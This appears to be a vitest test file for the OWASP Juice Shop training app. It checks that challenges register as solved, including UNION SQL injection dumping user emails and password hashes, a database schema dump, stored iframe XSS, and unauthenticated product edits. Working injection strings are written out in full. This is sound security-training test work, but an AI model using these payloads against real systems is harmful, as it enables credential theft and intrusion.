import request from 'supertest'
import { beforeEach, describe, expect, it } from 'vitest'
import { createTestShop, type TestShop } from '../../testing/test-app'
import { IFRAME_XSS as IFRAME, productsAttacks, SLACK_LINK } from './products.attacks'

let shop: TestShop
beforeEach(() => {
  shop = createTestShop()
})

const search = (q: string) => request(shop.app).get('/rest/products/search').query({ q })
const solved = (key: 'unionSqlInjectionChallenge' | 'dbSchemaChallenge' | 'restfulXssChallenge' | 'changeProductChallenge') => shop.ctx.training.isSolved(key)

describe('unionSqlInjectionChallenge', () => {
  it('is solved by a UNION of every email and password hash', async () => {
    const response = await productsAttacks.unionSqlInjectionChallenge(shop.app)
    expect(response.status).toBe(200)
    const users = shop.ctx.db.prepare('SELECT id, email, password FROM Users').all() as { id: number; email: string; password: string }[]
    expect(response.body.data).toEqual(
      expect.arrayContaining(users.map(({ id, email, password }) => expect.objectContaining({ id, name: email, description: password }))),
    )
    expect(solved('unionSqlInjectionChallenge')).toBe(true)
    expect(solved('dbSchemaChallenge')).toBe(false)
  })

  it('is solved without the soft-deleted users, whom a UNION that skips deleted rows does not show', async () => {
    expect(shop.ctx.db.prepare('SELECT COUNT(*) AS deleted FROM Users WHERE deletedAt IS NOT NULL').get()).toEqual({ deleted: 1 })
    const response = await search("qwert')) UNION SELECT id,email,password,'4','5','6','7','8','9' FROM Users WHERE deletedAt IS NULL--")
    expect(response.body.data.some((row: { name: string }) => row.name === 'chris.pike@juice-sh.op')).toBe(false)
    expect(solved('unionSqlInjectionChallenge')).toBe(true)
  })

  it('is not solved by a plain search', async () => {
    expect((await search('apple')).status).toBe(200)
    expect(solved('unionSqlInjectionChallenge')).toBe(false)
  })

  it('is not solved by a UNION that leaks only some users', async () => {
    await search("qwert')) UNION SELECT id,email,password,'4','5','6','7','8','9' FROM Users WHERE id < 3--")
    expect(solved('unionSqlInjectionChallenge')).toBe(false)
  })
})

describe('dbSchemaChallenge', () => {
  it('is solved by a UNION of the whole sqlite_master', async () => {
    const response = await productsAttacks.dbSchemaChallenge(shop.app)
    expect(response.status).toBe(200)
    const ids: unknown[] = response.body.data.map((row: { id: unknown }) => row.id)
    expect(ids.some((id) => typeof id === 'string' && id.startsWith('CREATE TABLE Users'))).toBe(true)
    expect(solved('dbSchemaChallenge')).toBe(true)
    expect(solved('unionSqlInjectionChallenge')).toBe(false)
  })

  it('is not solved by a plain search or by revealing deleted products', async () => {
    await search('apple')
    await search("'))--")
    expect(solved('dbSchemaChallenge')).toBe(false)
  })
})

describe('restfulXssChallenge', () => {
  it('is solved by creating a product with the IFRAME payload in its description', async () => {
    const response = await productsAttacks.restfulXssChallenge(shop.app)
    expect(response.status).toBe(201)
    expect((await request(shop.app).get(`/api/Products/${response.body.data.id}`)).body.data.description).toBe(IFRAME)
    expect(solved('restfulXssChallenge')).toBe(true)
  })

  it('is solved by updating a description without any login', async () => {
    await request(shop.app).put('/api/Products/1').send({ description: IFRAME })
    expect(solved('restfulXssChallenge')).toBe(true)
  })

  it('takes the safe path when switched off: the payload is stored without the iframe', async () => {
    const safe = createTestShop({ challenges: { safetyMode: 'enabled' } })
    const response = await request(safe.app).put('/api/Products/1').send({ description: `Fresh <b>juice</b>${IFRAME}` })
    expect(response.body.data.description).toBe('Fresh <b>juice</b>')
    expect(safe.ctx.training.isSolved('restfulXssChallenge')).toBe(false)
  })

  it('is not solved by harmless markup', async () => {
    await request(shop.app).put('/api/Products/1').send({ description: '<b>Fresh</b> and <iframe src="https://example.com">' })
    expect(solved('restfulXssChallenge')).toBe(false)
  })
})

describe('changeProductChallenge', () => {
  it("is solved by pointing O-Saft's link at the Slack chat, without any login", async () => {
    const response = await productsAttacks.changeProductChallenge(shop.app)
    expect(response.status).toBe(200)
    const { description } = (await request(shop.app).get('/api/Products/9')).body.data
    expect(description).toContain(`${SLACK_LINK}More...</a>`)
    expect(description).not.toContain('owasp.org')
    expect(solved('changeProductChallenge')).toBe(true)
  })

  it('is not solved while the original link stays, or on another product', async () => {
    const original = (await request(shop.app).get('/api/Products/9')).body.data.description as string
    await request(shop.app).put('/api/Products/9').send({ description: `${original} <a href="https://owasp.slack.com" target="_blank">x</a>` })
    await request(shop.app).put('/api/Products/1').send({ description: '<a href="https://owasp.slack.com" target="_blank">x</a>' })
    expect(solved('changeProductChallenge')).toBe(false)
  })
})
